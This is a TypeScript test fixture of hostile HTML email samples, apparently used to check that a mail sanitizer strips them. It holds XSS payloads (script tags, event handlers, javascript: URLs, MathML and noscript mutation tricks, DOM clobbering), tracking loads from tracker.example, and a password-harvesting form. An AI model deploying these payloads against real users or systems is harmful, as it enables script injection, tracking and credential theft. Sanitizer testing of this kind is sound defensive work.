/** HTML of mails that try to run something, to load something from `https://tracker.example`, or to take the reader somewhere. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: '<script>top.pwned = 1</script><script src="https://tracker.example/a.js"></script>',
  'event handlers': '<img src="x" onerror="pwned = 1"><body onload="pwned = 1"><p onmouseover="pwned = 1">a</p>',
  'javascript:':
    '<a href="javascript:pwned=1">a</a><a href=" java\tscript:pwned=1">b</a><img src="javascript:pwned=1">',
  svg: '<svg onload="pwned=1"><image href="https://tracker.example/s.png"/><script>pwned=1</script></svg>',
  mathml: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">',
  images: '<img src="https://tracker.example/1.png" width="1" height="1"><img src="//tracker.example/2.png">',
  srcset: '<img srcset="https://tracker.example/3.png 2x" src="http://tracker.example/4.png">',
  picture:
    '<picture><source srcset="https://tracker.example/5.png"><img src="https://tracker.example/6.png"></picture>',
  background:
    '<table background="https://tracker.example/7.png"><tr><td background="//tracker.example/8.png">a</table>',
  'background of the body': '<body background="https://tracker.example/9.png">a</body>',
  'style attributes': `<p style="background: URL('https://tracker.example/10.png')">a</p>
    <p style="background: u\\72l(https://tracker.example/11.png)">a</p>
    <p style="--a: u\\72 l(https://tracker.example/12.png); background: var(--a, url(https://tracker.example/13.png))">a</p>
    <p style="list-style: url(//tracker.example/14.png); content: image-set('https://tracker.example/15.png' 1x)">a</p>
    <p style="cursor: url(https://tracker.example/16.png), auto; border-image: url(https://tracker.example/17.png)">a</p>`,
  'style sheets': `<style>@import "https://tracker.example/a.css"; @import url(//tracker.example/b.css);
    @font-face { font-family: f; src: url(https://tracker.example/f.woff) } p { font-family: f }
    p::before { content: url(https://tracker.example/18.png) }
    @media all { p { background: u\\72l("https://tracker.example/19.png") } }
    @supports (color: red) { p { background: url(https://tracker.example/20.png) } }
    p { & b { background: url(https://tracker.example/21.png) } }
    </style><p>a<b>b</b></p>`,
  'a style sheet in the head':
    '<html><head><style>p{background:url(https://tracker.example/22.png)}</style></head><p>a',
  links:
    '<link rel="stylesheet" href="https://tracker.example/c.css"><link rel="prefetch" href="https://tracker.example/p">',
  'dns-prefetch':
    '<link rel="dns-prefetch" href="//tracker.example"><link rel="preload" as="image" href="https://tracker.example/23.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0; url=https://tracker.example/">',
  base: '<base href="https://tracker.example/"><img src="24.png"><a href="page">a</a>',
  form: '<form action="https://tracker.example/login"><input name="password" type="password"><button autofocus>Sign in</button></form>',
  'form attributes':
    '<input type="image" src="https://tracker.example/25.png"><button formaction="javascript:pwned=1">a</button>',
  iframe: '<iframe src="https://tracker.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  objects:
    '<object data="https://tracker.example/o"></object><embed src="https://tracker.example/e"><applet code="a"></applet>',
  media:
    '<video src="https://tracker.example/v" poster="https://tracker.example/26.png" autoplay></video><audio src="https://tracker.example/a" autoplay>',
  'cid cycles': '<img src="cid:"><img src="cid:cid:one@x"><img src="cid:%"><iframe src="cid:one@x"></iframe>',
  clobbering:
    '<img name="body"><form id="parent"></form><a id="document"></a><p id="postMessage">a</p><img id="innerHeight">',
  'shadow root': '<div><template shadowrootmode="open"><img src="https://tracker.example/27.png"></template></div>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  comments: '<!--[if mso]><img src="https://tracker.example/28.png"><![endif]--><!--><img src=x onerror=pwned=1>-->',
  'data: pages': '<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:text/html,a">',
  depth: '<div>'.repeat(3000),
};
